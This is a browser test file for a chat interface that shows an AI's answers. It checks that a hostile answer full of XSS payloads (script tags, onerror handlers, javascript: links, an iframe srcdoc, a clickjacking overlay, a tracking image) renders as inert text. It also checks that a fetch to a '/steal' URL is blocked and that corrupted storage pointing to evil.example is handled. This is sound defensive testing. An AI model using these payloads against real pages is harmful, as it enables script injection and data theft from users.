import { afterAll, beforeAll, expect, it } from 'vitest'
import { type Stage, setStage } from './stage.ts'
import { answerOf, ask, expectVote, thumb } from './steps.ts'
import { openUpstream } from './upstream.ts'

const hostile = `<script>window.hacked = 1</script> <img src=x onerror="window.hacked = 1">

<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe><style>body { display: none }</style>

[run](javascript:window.hacked=1) [page](data:text/html,hacked) [upper](JaVaScRiPt:window.hacked=1)

![a picture](https://tracker.example/seen.png?said=everything)

<a href="#" onclick="window.hacked = 1" style="position: fixed; inset: 0">cover</a>

| left | right |
|:-----|------:|
| 1    | 2     |

\`\`\`html" onmouseover="window.hacked=1
<script>window.hacked = 1</script>
\`\`\`

The end.`

let upstream: Awaited<ReturnType<typeof openUpstream>>
let stage: Stage

beforeAll(async () => {
  upstream = await openUpstream(hostile)
  stage = await setStage(['--upstream', upstream.url])
})

afterAll(async () => {
  await stage?.close()
  upstream?.close()
})

it('shows an answer that attacks the page as the text it is, and can have it rated', async () => {
  const { page, troubles, close } = await stage.openPage()
  const asked = new Set<string>()
  page.on('request', (request) => asked.add(new URL(request.url()).hostname))
  await ask(page, 'Attack me')
  const answer = answerOf(page)
  await answer.getByText('The end.').waitFor()
  await answer.getByText('run').click()
  await answer.getByText('page', { exact: true }).click()
  await answer.getByText('upper').click()
  await answer.getByText('cover').click()
  expect(await answer.locator('script, img, iframe, style').count()).toBe(0)
  const links = await answer
    .getByRole('link')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')))
  expect(links).toEqual(['https://tracker.example/seen.png?said=everything'])
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect([...asked]).toEqual(['127.0.0.1'])
  await thumb(page, 'Bad answer').click()
  await expectVote(page, 'down', 'delivered')
  expect(troubles.except()).toEqual([])
  await close()
})

it('has a policy that stops what would get through anyway', async () => {
  const { page, troubles, close } = await stage.openPage()
  const got = await page.evaluate(async () => {
    const tried: Record<string, string> = {}
    const attempt = async (name: string, run: () => unknown) => {
      try {
        await run()
        tried[name] = 'done'
      } catch {
        tried[name] = 'refused'
      }
    }
    await attempt('html', () => {
      document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hacked = 1">')
    })
    await attempt('exfiltrate', () => fetch('http://localhost:9/steal'))
    return tried
  })
  expect(got).toEqual({ html: 'refused', exfiltrate: 'refused' })
  await expect.poll(() => troubles.except()).toContain('policy: connect-src http://localhost:9/steal')
  await close()
})

it('opens with whatever lies in its storage', async () => {
  const { page, troubles, close } = await stage.openPage()
  const stored = [
    { id: 'a', role: 'assistant', text: hostile, target: '{"url":"https://evil.example/","token":"a.b.c"}' },
    { id: 5, role: {}, text: null },
  ]
  for (const text of ['{', 'null', JSON.stringify({ length: 1e9 }), JSON.stringify(stored)]) {
    await page.evaluate((value) => {
      for (const key of [
        'feedback-signals-demo:conversation',
        'feedback-signals-demo:theme',
        'feedback-signals ',
      ]) {
        localStorage.setItem(key, value)
      }
    }, text)
    await page.reload()
    await page.getByRole('textbox', { name: 'Your question' }).waitFor()
  }
  await answerOf(page).getByText('This answer cannot be rated.').waitFor()
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(troubles.except()).toEqual([])
  await close()
})
